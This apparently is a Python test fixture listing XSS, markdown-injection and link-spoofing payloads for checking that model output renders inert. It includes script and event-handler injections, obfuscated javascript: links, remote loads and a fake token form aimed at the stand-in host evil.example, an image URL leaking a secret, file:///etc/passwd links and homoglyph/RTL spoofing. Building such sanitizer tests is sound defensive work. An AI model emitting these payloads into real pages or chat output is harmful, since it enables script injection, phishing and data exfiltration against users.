"""What a model may be made to say: each of these has to end as text, or as a plain link.

`evil.example` is where a request would go that must not leave; `alert` is what must not run.
"""

from __future__ import annotations

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=https://evil.example/x.js></script>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "mathml": '<math><mtext><style><img src=x onerror="alert(1)"></style></mtext></math>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-remote": '<img src="https://evil.example/p.png">',
    "iframe": (
        '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</scr' 'ipt>">'
    ),
    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
    "form": '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
    "style": (
        "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.exampl"
        "e/b) }</style>"
    ),
    "style-attribute": (
        '<p style="background:url(https://evil.example/b);position:fixed;inset:0">x</p>'
    ),
    "link-tag": (
        '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="h'
        'ttps://evil.example/y">'
    ),
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">[a](b)',
    "video": (
        '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.exa'
        'mple/a" autoplay>'
    ),
    "details": "<details open ontoggle=alert(1)>x</details><body onload=alert(1)>",
    "unclosed-attribute": "<img src='x' onerror='alert(1)//",
    "image": "![a](https://evil.example/p.png)",
    "image-title": '![a](https://evil.example/p.png "onerror=alert(1)")',
    "image-reference": "![a][1]\n\n[1]: https://evil.example/p.png?secret=1",
    "image-in-link": "[![a](https://evil.example/p.png)](https://evil.example/q)",
    "image-data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript-link": "[a](javascript:alert(1)) <javascript:alert(1)>",
    "javascript-mixed-case": "[a](JaVaScRiPt:alert(1)) [b]( javascript:alert(1))",
    "javascript-entities": "[a](&#106;avascript:alert(1)) [b](java&#10;script:alert&lpar;1&rpar;)",
    "javascript-controls": (
        "[a](java\tscript:alert(1)) [b](\x01javascript:alert(1)) [c](<java\x00script:x>)"
    ),
    "javascript-encoded": "[a](javascript%3Aalert(1)) [b](javascript&colon;alert(1))",
    "javascript-reference": "[a][1]\n\n[1]: javascript:alert(1)",
    "data-link": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:alert(1))",
    "other-schemes": (
        "[a](file:///etc/passwd) [b](blob:x) [c](intent://x#Intent;end) [d](/api/x) [e](//evi"
        "l.example)"
    ),
    "link-attributes": (
        '[a](https://evil.example/"onmouseover="alert(1)) [b](https://evil.example "x\\" '
        'onclick=alert(1)")'
    ),
    "nested-links": (
        "[a [b](javascript:alert(1)) c](https://evil.example) [x](javascript:[y](https://evil"
        ".example)alert(1))"
    ),
    "fence-language": (
        '```"><script>alert(1)</script>\nx\n```\n\n```js onload=alert(1)\nalert(1)\n```'
    ),
    "code": (
        "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```\n\n`<svg onload="
        "alert(1)>`"
    ),
    "table": (
        "| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| ![b](https"
        "://evil.example/p) | <script>alert(1)</script> |"
    ),
    "nested-markup": (
        "> - **<b onclick=alert(1)>*[![x](https://evil.example/p)](javascript:alert(1))*</b>*"
        "*\n>   1. <iframe src=https://evil.example>\n>      ```svg\n>      <svg onload=alert"
        "(1)>"
    ),
    "comment-and-cdata": (
        "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?" ">"
    ),
    "template": (
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <template><script>alert(1)</sc"
        "ript></template>"
    ),
    "rtl-override": (
        "\u202egnp.exe\u202c [\u202emoc.knab//:sptth\u202c](https://evil.example) `\u202e} x`"
        "\n\n```py\nif a:\u202e # \u2066x\u2069\n```"
    ),
    "lookalike-link": (
        "[https://bank.example](https://evil.example) [bank.example\u200b](https://b\u0430nk."
        "example) <http://bank.example@evil.example>"
    ),
    "autolink": (
        'https://evil.example/?q="><script>alert(1)</script> www.evil.example <https://evil.'
        'example/"onx=1>'
    ),
    "prototype-names": (
        "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n[__proto__] [constructor][toString" "]"
    ),
}
